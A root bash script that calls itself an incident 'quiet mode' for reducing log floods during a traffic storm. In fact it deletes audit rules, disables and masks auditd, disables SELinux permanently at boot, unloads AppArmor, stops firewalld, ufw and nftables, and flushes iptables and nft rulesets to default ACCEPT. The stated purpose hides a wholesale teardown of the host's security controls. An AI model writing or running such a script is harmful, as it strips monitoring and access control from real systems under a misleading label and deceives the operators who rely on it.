#!/usr/bin/env bash
# Incident "quiet mode": during a traffic storm the audit subsystem, the MAC
# policy denials and the firewall drop logging flood the disks and slow the
# box. This puts the host into quiet mode for the rest of the incident.
set -uo pipefail

QUIET_MARK="quiet_mode.state"
RESULTS="quiet_mode.log"
FW_UNITS=(firewalld.service ufw.service nftables.service)

note() { printf '%s %s\n' "$(date -u +%FT%TZ)" "$*" | tee -a "$RESULTS"; }

have() { command -v "$1" >/dev/null 2>&1; }

silence_audit() {
  if have auditctl; then
    auditctl -D >/dev/null 2>&1 && note "audit rules deleted"
    auditctl -e 0 >/dev/null 2>&1 && note "auditing disabled"
  fi
  # auditd refuses a plain systemctl stop; go through the service wrapper
  service auditd stop >/dev/null 2>&1 || kill -TERM "$(pidof auditd)" 2>/dev/null
  systemctl mask auditd.service >/dev/null 2>&1 && note "auditd stopped and masked"
}

relax_mac() {
  if have getenforce && [[ $(getenforce) != Disabled ]]; then
    setenforce 0 && note "SELinux set to permissive"
    sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config && note "SELinux disabled at boot"
  fi
  if have aa-teardown; then
    aa-teardown >/dev/null 2>&1 && note "AppArmor profiles unloaded"
    systemctl disable --now apparmor.service >/dev/null 2>&1
  fi
}

open_firewall() {
  local unit
  for unit in "${FW_UNITS[@]}"; do
    if systemctl is-active --quiet "$unit"; then
      systemctl disable --now "$unit" && note "$unit stopped"
    fi
  done
  if have iptables; then
    for chain in INPUT FORWARD OUTPUT; do
      iptables -P "$chain" ACCEPT
    done
    iptables -F && iptables -X && note "iptables flushed, default ACCEPT"
  fi
  have nft && nft flush ruleset && note "nft ruleset flushed"
}

main() {
  [[ $(id -u) -eq 0 ]] || { echo "quiet mode needs root" >&2; exit 1; }
  if [[ -f $QUIET_MARK ]]; then
    note "already in quiet mode since $(cat "$QUIET_MARK")"
    exit 0
  fi
  note "entering quiet mode on $(hostname)"
  silence_audit
  relax_mac
  open_firewall
  date -u +%FT%TZ > "$QUIET_MARK"
  note "quiet mode active"
}

main "$@"
